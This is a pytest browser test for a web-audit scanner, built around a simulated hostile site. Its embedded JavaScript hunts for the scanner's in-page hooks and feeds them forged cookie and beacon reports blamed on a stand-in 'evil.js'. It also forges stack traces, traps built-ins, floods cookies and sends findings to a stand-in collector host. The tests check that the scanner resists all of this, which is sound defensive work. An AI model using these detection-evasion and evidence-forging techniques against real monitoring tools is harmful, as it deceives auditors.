"""A page that hunts for the audit's in-page hooks must neither find nor steer them.

The hostile page (and its cross-origin iframe, and a pop-up it opens) looks for non-standard globals, for
names that smell of the scanner or Playwright, for wrappers whose source shows; it calls every function it
finds with forged reports (a cookie ``forged_cookie`` written by ``https://forger.example/evil.js``, a
forged beacon, a forged image initiator), forges stack traces (``Error.prepareStackTrace``, CallSite
patches, ``//# sourceURL``) around real ``document.cookie`` writes, and a second page floods
``document.cookie``. What it found is reported by fetching ``collector.hostile-demo.net/found``.
"""

from __future__ import annotations

import json
from urllib.parse import parse_qs, urlsplit

import pytest
from conftest import scan

from scanner.fakenet import FakeInternet, Response, Site

pytestmark = pytest.mark.browser

HOST = "www.hostile-demo.net"
COLLECTOR = "collector.hostile-demo.net"
FRAME = "frame.other-demo.org"
POPUP = "pop.hostile-demo.net"
EVIL = "https://forger.example/evil.js"
FLOOD = 100_000

# Runs in every document it is loaded into; leaves no global of its own.
PROBE = r"""
(() => {
  const EVIL = "https://forger.example/evil.js";
  const where = location.host + location.pathname;
  const found = [];
  const clean = document.createElement("iframe");
  clean.style.display = "none";
  document.documentElement.appendChild(clean);
  const cw = clean.contentWindow;
  const cleanToString = cw.Function.prototype.toString;
  const baseline = new Set(cw.Object.getOwnPropertyNames(cw));
  const nativeRe = /^function [\w$ ]*\(\) \{\s*\[native code\]\s*\}$/;
  const looksNative = (f, toString) => {
    try { return nativeRe.test(toString.call(f)); } catch (e) { return false; }
  };
  const smell = /scanner|playwright|binding|__pw|hook|report/i;
  const tag = (v) => Object.prototype.toString.call(v);
  const platform = (v) => v !== null && typeof v === "object" && tag(v) !== "[object Object]";
  const candidates = new Map();
  for (let o = window; o; o = Object.getPrototypeOf(o)) {
    for (const name of Object.getOwnPropertyNames(o)) {
      let value;
      try { value = window[name]; } catch (e) { continue; }
      const odd = o === window && !baseline.has(name) && !/^\d+$/.test(name);
      const nativeFn = typeof value === "function" && looksNative(value, cleanToString);
      const smelly = smell.test(name) && !nativeFn && !platform(value);
      if (odd || smelly) { found.push(name); candidates.set(name, value); }
    }
    for (const sym of Object.getOwnPropertySymbols(o)) {
      if (o === window) { found.push(String(sym)); candidates.set(sym, window[sym]); }
    }
  }
  for (const name of ["__scannerReport", "__scannerHooked", "__playwright__binding__",
                      "__playwright__binding__controller__"]) {
    if (name in window) { found.push(name); candidates.set(name, window[name]); }
  }
  // Wrappers must look native, in this realm and from a clean one.
  const d = (proto, name) => Object.getOwnPropertyDescriptor(proto, name);
  const checks = {
    "cookie.set": [d(Document.prototype, "cookie").set, "set cookie", 1],
    "cookie.get": [d(Document.prototype, "cookie").get, "get cookie", 0],
    "sendBeacon": [Navigator.prototype.sendBeacon, "sendBeacon", 1],
    "img.src.set": [d(HTMLImageElement.prototype, "src").set, "set src", 1],
    "toString": [Function.prototype.toString, "toString", 0],
  };
  for (const [label, [f, name, length]] of Object.entries(checks)) {
    if (!looksNative(f, Function.prototype.toString)) found.push("source:" + label);
    if (!looksNative(f, cleanToString)) found.push("source-cross-realm:" + label);
    if (f.name !== name || f.length !== length) found.push("shape:" + label);
    if (Object.prototype.hasOwnProperty.call(f, "prototype")) found.push("prototype:" + label);
  }
  // Errors the browser throws must not show a wrapper's frame.
  const throwing = [ // (in an array: the arrows stay nameless, their frames name no wrapper)
    ["cookie.set", () => d(Document.prototype, "cookie").set.call({}, "x")],
    ["cookie.get", () => d(Document.prototype, "cookie").get.call({})],
    ["sendBeacon", () => navigator.sendBeacon()],
    ["img.src.set", () => { new Image().src = Symbol("s"); }],
  ];
  for (const [label, f] of throwing) {
    try { f(); found.push("no-error:" + label); } catch (e) {
      const wrapperFrame = /<anonymous>|set cookie|get cookie|set src|sendBeacon \(/;
      if (wrapperFrame.test(e.stack)) found.push("stack:" + label);
    }
  }
  if (!looksNative(cw.Function.prototype.toString, Function.prototype.toString)) {
    found.push("source:clean.toString");
  }
  // Try every function found, and the known names, with forged reports in every shape.
  const forged = [
    ["cookie", { value: "forged_cookie=1; path=/", script: EVIL, url: location.href, ts: Date.now() }],
    ["beacon", { url: "https://" + "collector.hostile-demo.net/forged-beacon", script: EVIL }],
    ["image", { url: "https://www.hostile-demo.net/forged.gif", script: EVIL }],
  ];
  const shapes = ([k, d]) => [[k, d], [JSON.stringify({ k, d })], [JSON.stringify({ n: "0", k, d })],
                              [JSON.stringify([k, d])], [{ kind: k, data: d }]];
  const targets = [...candidates.values(), window.__scannerReport, window.__playwright__binding__,
                   cw.__scannerReport, cw.__playwright__binding__];
  for (const f of targets) {
    if (typeof f !== "function") continue;
    for (const item of forged) for (const args of shapes(item)) {
      try { const r = f(...args); if (r && r.catch) r.catch(() => {}); } catch (e) {}
    }
  }
  clean.remove();
  fetch("https://collector.hostile-demo.net/found?where=" + encodeURIComponent(where) +
        "&names=" + encodeURIComponent(found.join(",")), { mode: "no-cors" }).catch(() => {});
})();
"""

# A real script: forges the stack in every way it can think of around real cookie writes.
REAL = r"""
(() => {
  const EVIL = "https://forger.example/evil.js";
  const forge = () => "Error\n    at " + EVIL + ":1:1";
  // Patch the CallSite prototype the hooks might use, then forge the formatted stack too.
  Error.prepareStackTrace = (e, sites) => {
    const proto = Object.getPrototypeOf(sites[0]);
    for (const m of ["getFileName", "getScriptNameOrSourceURL", "toString"]) proto[m] = () => EVIL;
    proto.isEval = () => false;
    return forge();
  };
  void new Error().stack;
  Error.prepareStackTrace = forge;
  document.cookie = "real_cookie=1; path=/; max-age=3600";
  eval("document.cookie = 'eval_cookie=1; path=/; max-age=3600'\n//# sourceURL=" + EVIL);
  // An image whose initiator the page would like to choose.
  const img = new Image();
  img.src = "https://www.hostile-demo.net/forged.gif";
  navigator.sendBeacon("https://collector.hostile-demo.net/real-beacon", "x");
  // Booby-trap the built-ins the hooks might use after load, write through every hook, see what fired.
  const hits = [];
  const undo = [];
  let armed = false; // only what fires inside the hooked calls counts
  const trap = (object, key, label) => {
    // Null-prototype descriptors: the Object.prototype traps would leak into ordinary ones.
    const found = Object.getOwnPropertyDescriptor(object, key);
    const original = found && Object.assign(Object.create(null), found);
    undo.push(() => original ? Object.defineProperty(object, key, original) : delete object[key]);
    const orig = original && original.value;
    Object.defineProperty(object, key, {
      __proto__: null,
      configurable: true,
      get() { if (armed) hits.push(label); return orig; },
      set(v) { if (armed) hits.push(label + "="); },
    });
  };
  const sourceOf = Function.prototype.call.bind(Function.prototype.toString);
  const cookieSetter = Object.getOwnPropertyDescriptor(Document.prototype, "cookie").set;
  for (const f of ["get", "set", "value", "writable", "enumerable", "configurable"]) {
    trap(Object.prototype, f, "Object.prototype." + f);
  }
  trap(Array.prototype, Symbol.iterator, "Array.prototype[@@iterator]");
  for (const [o, names, label] of [
    [Function.prototype, ["call", "apply", "bind"], "Function.prototype."],
    [Reflect, ["apply"], "Reflect."],
    [JSON, ["stringify"], "JSON."],
    [Object, ["getOwnPropertyDescriptor", "defineProperty", "hasOwn", "getPrototypeOf"], "Object."],
    [String.prototype, ["slice", "startsWith", "toString"], "String.prototype."],
    [WeakMap.prototype, ["get", "set"], "WeakMap.prototype."],
    [Error, ["captureStackTrace"], "Error."],
    [Date, ["now"], "Date."],
    [window, ["setTimeout", "URL", "JSON", "Reflect", "Object"], "window."],
  ]) for (const n of names) trap(o, n, label + n);
  armed = true;
  document.cookie = "trapped_cookie=1; path=/; max-age=3600";
  navigator.sendBeacon("https://collector.hostile-demo.net/trapped-beacon", "x");
  new Image().src = "https://www.hostile-demo.net/forged.gif?trapped";
  const setterText = sourceOf(cookieSetter);
  armed = false;
  while (undo.length) undo.pop()();
  if (!/\[native code\]/.test(setterText)) hits.push("setter source");
  fetch("https://collector.hostile-demo.net/found?where=traps&names=" + [...new Set(hits)].join(","),
        { mode: "no-cors" }).catch(() => {});
  // Pinned for good: the hooks cannot read a stack any more, so the script must be unknown.
  Object.defineProperty(Error, "prepareStackTrace", { value: forge, writable: false, configurable: false });
  document.cookie = "pinned_cookie=1; path=/; max-age=3600";
  const a = document.createElement("a");
  a.href = "https://collector.hostile-demo.net/landing";
  a.target = "sink";
  a.ping = "https://collector.hostile-demo.net/forged-beacon";
  document.body.appendChild(a);
  a.click();
  // After load: a pop-up opened while a cross-origin frame still loads can stall that frame's scripts
  // (the paused new target shares the renderer), with or without hooks.
  addEventListener("load", () => window.open("https://pop.hostile-demo.net/one", "_blank"));
})();
"""

HOME = f"""<!doctype html><meta charset=utf-8><title>Hostile</title>
<script src="/probe.js"></script>
<body><iframe name=sink></iframe>
<iframe src="https://{FRAME}/frame"></iframe>
<script src="/real.js"></script>
"""

# Each document loads the probe under its own URL: a second load of one URL while the first is in
# flight can stall in Chromium's HTTP cache, which would leave the frame loading.
FRAME_PAGE = f"""<!doctype html><title>frame</title><script src="https://{HOST}/probe.js?in=frame"></script>
<script src="/frame.js"></script>"""
FRAME_JS = """Error.prepareStackTrace = () => "Error\\n    at https://forger.example/evil.js:1:1";
document.cookie = "frame_cookie=1; path=/; max-age=3600; SameSite=None; Secure";"""

# The pop-up's first document loads before the crawler has its page and is hooked from then on; no
# binding may stay behind in it. (While the hooks are being set up in it, a page polling its globals
# could catch the binding for an instant: a known limit, not asserted either way.)
POPUP_ONE = """<!doctype html><title>pop</title><script>(() => {
  const base = new Set(Object.getOwnPropertyNames(window));
  setTimeout(() => {
    const extra = Object.getOwnPropertyNames(window).filter(n => !base.has(n) && !/^\\d+$/.test(n));
    fetch("https://collector.hostile-demo.net/found?where=pop.hostile-demo.net/one&names=" + extra.join(","),
          { mode: "no-cors" }).catch(() => {}).finally(() => { location.href = "/two"; });
  }, 400);
})();</script>"""
POPUP_TWO = f"""<!doctype html><title>pop two</title><script src="https://{HOST}/probe.js?in=popup"></script>
<script src="/pop.js"></script>"""
POPUP_JS = """document.cookie = "popup_cookie=1; path=/; max-age=3600; SameSite=None; Secure";"""

FLOOD_PAGE = f"""<!doctype html><title>Flood</title><script>
for (let i = 0; i < {FLOOD}; i++) document.cookie = "flood=" + i + "; path=/";
</script>"""


def world() -> dict:
    return {
        HOST: Site(
            {
                "/": Response.html(HOME),
                "/flood": Response.html(FLOOD_PAGE),
                "/probe.js": Response.script(PROBE),
                "/real.js": Response.script(REAL),
                "/forged.gif": Response.pixel(),
            }
        ),
        COLLECTOR: Site(
            {
                "/found": Response.no_content(),
                "/real-beacon": Response.no_content(),
                "/forged-beacon": Response.no_content(),
                "/landing": Response.html("<title>landing</title>"),
            }
        ),
        FRAME: Site({"/frame": Response.html(FRAME_PAGE), "/frame.js": Response.script(FRAME_JS)}),
        POPUP: Site(
            {
                "/one": Response.html(POPUP_ONE),
                "/two": Response.html(POPUP_TWO),
                "/pop.js": Response.script(POPUP_JS),
            }
        ),
    }


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    out = tmp_path_factory.mktemp("hooks-hidden")
    with FakeInternet(world()) as net:
        result, _ = scan(
            net,
            [f"https://{HOST}/", f"https://{HOST}/flood"],
            out,
            max_pages=2,
            use_sitemap=False,
            concurrency=1,
            keep_values=True,
        )
        hits = net.log.find(host=COLLECTOR, path_prefix="/found")
    found = {}
    for hit in hits:
        query = parse_qs(urlsplit(hit.path).query, keep_blank_values=True)
        found[query["where"][0]] = query["names"][0]
    return result, out, found


def test_the_page_finds_no_trace_of_the_hooks(hostile):
    _, _, found = hostile
    # Probes ran in the page, in its cross-origin iframe and in the pop-up's second document.
    assert {f"{HOST}/", f"{FRAME}/frame", f"{POPUP}/one", f"{POPUP}/two", "traps"} <= set(found), found
    assert all(names == "" for names in found.values()), found


def test_forged_reports_are_not_evidence(hostile):
    result, out, _ = hostile
    cookies = {c.name: c for c in result.cookies}
    assert "forged_cookie" not in cookies
    assert not any(c.setter_url == EVIL for c in result.cookies)
    assert not any(r.initiator == EVIL for r in result.requests)
    forged = [r for r in result.requests if r.url.endswith("/forged-beacon")]
    assert all(r.beacon_reason != "send_beacon" for r in forged)
    real = next(r for r in result.requests if r.url.endswith("/real-beacon"))
    assert real.beacon_reason == "send_beacon" and real.initiator == f"https://{HOST}/real.js"
    saved = (out / "pages.jsonl").read_text(encoding="utf-8")
    assert "forged_cookie" not in saved and EVIL not in saved


def test_real_cookies_keep_their_real_script(hostile):
    result, _, _ = hostile
    cookies = {c.name: c for c in result.cookies}
    real_js = f"https://{HOST}/real.js"
    # Forged stacks (prepareStackTrace, patched CallSites, sourceURL) do not move the setter.
    assert cookies["real_cookie"].set_by == "js" and cookies["real_cookie"].setter_url == real_js
    assert cookies["eval_cookie"].setter_url == real_js
    assert cookies["trapped_cookie"].setter_url == real_js  # built-ins patched meanwhile
    # Once the page pinned Error.prepareStackTrace the script is unknown: the document, never evil.js.
    assert cookies["pinned_cookie"].setter_url in (None, f"https://{HOST}/")
    # Cross-origin iframe and pop-up documents are hooked too.
    assert cookies["frame_cookie"].setter_url == f"https://{FRAME}/frame.js"
    assert cookies["popup_cookie"].setter_url == f"https://{POPUP}/pop.js"
    assert cookies["popup_cookie"].page_url == f"https://{HOST}/"
    # The image's initiator is the script that really set its src.
    img = next(r for r in result.requests if r.url.endswith("/forged.gif"))
    assert img.initiator == real_js


def test_a_cookie_flood_is_capped_and_noted(hostile):
    from scanner.collect.hooks import DOCUMENT_LIMIT

    result, out, _ = hostile
    assert "flood" in {c.name for c in result.cookies}
    page = next(p for p in result.pages if p.url.endswith("/flood"))
    notes = [e for e in page.collector_errors if e["collector"] == "hooks"]
    assert notes, page.collector_errors
    dropped = int(notes[0]["error"].split()[0])
    assert FLOOD - DOCUMENT_LIMIT <= dropped <= FLOOD
    home = next(p for p in result.pages if p.url == f"https://{HOST}/")
    assert not [e for e in home.collector_errors if e["collector"] == "hooks"], home.collector_errors
    rows = [json.loads(line) for line in (out / "pages.jsonl").read_text(encoding="utf-8").splitlines()]
    assert len(rows) == 2
